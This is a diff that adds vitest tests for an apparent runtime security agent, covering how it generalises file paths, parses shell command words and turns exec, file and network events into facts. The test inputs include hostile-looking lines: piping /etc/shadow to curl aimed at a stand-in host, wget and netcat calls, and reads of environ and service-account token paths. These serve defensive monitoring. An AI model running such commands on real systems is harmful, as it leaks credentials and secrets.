@@ -1,0 +1,93 @@
+import { expect, test } from 'vitest';
+import { decodeFlows, decodeRecords } from '../../../agent/events/decode.ts';
+import { commandShape, commandWords } from '../../../agent/features/command.ts';
+import { factOf, factOfFlow } from '../../../agent/features/facts.ts';
+import { generalisePath } from '../../../agent/features/generalise.ts';
+import {
+  deniedRecord,
+  execRecord,
+  exitRecord,
+  flowEntry,
+  flowRecord,
+  openRecord,
+} from '../../builders/records.ts';
+
+const nobody = (): null => null;
+const fact = (record: Buffer, nameOf: (address: string) => string | null = nobody) => {
+  const [event] = decodeRecords(record).events;
+  return event === undefined ? undefined : factOf(event, nameOf);
+};
+
+test.each([
+  ['/proc/123/environ', '/proc/*/environ'],
+  ['/proc/123/task/124/status', '/proc/*/task/*/status'],
+  [
+    '/run/secrets/kubernetes.io/serviceaccount/..2024_01_31_12_00_00.123456789/token',
+    '/run/secrets/kubernetes.io/serviceaccount/..*/token',
+  ],
+  ['/var/lib/x/0123456789abcdef/y', '/var/lib/x/*/y'],
+  ['/data/1b2c3d4e-0000-4aaa-8bbb-123456789abc.json', '/data/*.json'],
+  ['/tmp/tmp.aB3dE5fG7h', '/tmp/tmp.*'],
+  ['/var/spool/job-20240131.log', '/var/spool/job-*.log'],
+  ['/usr/bin/python3.11', '/usr/bin/python3.11'],
+  ['/usr/lib/x86_64-linux-gnu/feedface', '/usr/lib/x86_64-linux-gnu/feedface'],
+])('folds what differs between runs: %s', (path, expected) => {
+  expect(generalisePath(path)).toBe(expected);
+});
+
+test('bounds the length of a value', () => {
+  expect(generalisePath(`/${'x'.repeat(5000)}`)).toBe(`/${'x'.repeat(511)}…(5001)`);
+});
+
+test.each([
+  ['cat /etc/shadow | curl -d @- x', ['cat', 'curl']],
+  ['if true; then FOO=1 /usr/bin/id; fi', ['true', '/usr/bin/id']],
+  ['df -h && df -i', ['df']],
+  ['echo $(whoami) `id`', ['echo', 'whoami', 'id']],
+  ['', []],
+])('finds the commands of a script: %s', (script, words) => {
+  expect(commandWords(script)).toEqual(words);
+});
+
+test('the shape of a command line names what an interpreter runs, not its arguments', () => {
+  expect(commandShape('dash', ['sh', '-c', 'df -h /'])).toBe('-c df');
+  expect(commandShape('bash', ['bash', '-lc', 'id'])).toBe('-lc id');
+  expect(commandShape('bash', ['bash', '/opt/run-123.sh', 'secret'])).toBe('/opt/run-*.sh');
+  expect(commandShape('python3.11', ['python3', '-c', 'import os'])).toBe('-c …');
+  expect(commandShape('python3.11', ['python3', '/app/job.py', '--password=x'])).toBe('/app/job.py');
+  expect(commandShape('busybox', ['sh', '-c', 'wget x'])).toBe('sh -c wget');
+  expect(commandShape('busybox', ['busybox', 'nc', '1.2.3.4'])).toBe('nc');
+  expect(commandShape('curl', ['curl', '-H', 'token'])).toBe('');
+});
+
+test('an event becomes a fact that comes back when the same is done again', () => {
+  expect(fact(execRecord({ path: '/usr/bin/dash', args: ['sh', '-c', 'df'], parentExe: 'node' }))).toEqual({
+    kind: 'exec',
+    value: 'node > /usr/bin/dash -c df',
+  });
+  expect(fact(openRecord({ path: '/etc/shadow', exe: 'cat', openFlags: 1 }))).toEqual({
+    kind: 'file',
+    value: 'cat w /etc/shadow',
+  });
+  expect(fact(flowRecord({ direction: 'accept', peer: '10.0.0.1', port: 80 }))).toEqual({
+    kind: 'accept',
+    value: '80',
+  });
+  expect(fact(flowRecord({ direction: 'connect', peer: '10.0.0.1', port: 40_000 }))).toEqual({
+    kind: 'connect',
+    value: '10.0.0.1:*',
+  });
+  const named = (address: string): string | null => (address === '10.0.0.1' ? 'shop/Deployment/db' : null);
+  expect(fact(flowRecord({ direction: 'connect', peer: '10.0.0.1', port: 5432 }), named)).toEqual({
+    kind: 'connect',
+    value: 'shop/Deployment/db:5432',
+  });
+  expect([fact(exitRecord({})), fact(deniedRecord({ what: 'exec' }))]).toEqual([null, null]);
+});
+
+test('an entry of the flow map gives the same fact as its record', () => {
+  const fields = { direction: 'connect', peer: '10.0.0.1', port: 5432 } as const;
+  const [flow] = decodeFlows(flowEntry(fields)).flows;
+  if (flow === undefined) throw new Error('not decoded');
+  expect(factOfFlow(flow, nobody)).toEqual(fact(flowRecord(fields)));
+});
